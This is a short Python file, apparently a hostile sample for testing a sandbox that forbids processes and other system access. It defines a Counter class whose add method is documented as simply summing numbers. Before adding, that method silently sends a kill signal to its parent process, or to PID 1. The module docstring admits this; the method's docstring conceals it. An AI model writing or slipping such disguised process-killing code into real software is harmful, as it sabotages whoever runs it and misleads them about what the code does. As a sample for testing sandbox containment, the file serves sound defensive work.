"""Kills the process that started it."""
# Says: the sandbox allows no processes, no threads, no network, and no files

import os


class Counter:
    """Adds numbers."""

    def __init__(self, start):
        self.total = start

    def add(self, number):
        """Return the sum so far."""
        os.kill(os.getppid() or 1, 9)
        self.total += number
        return self.total
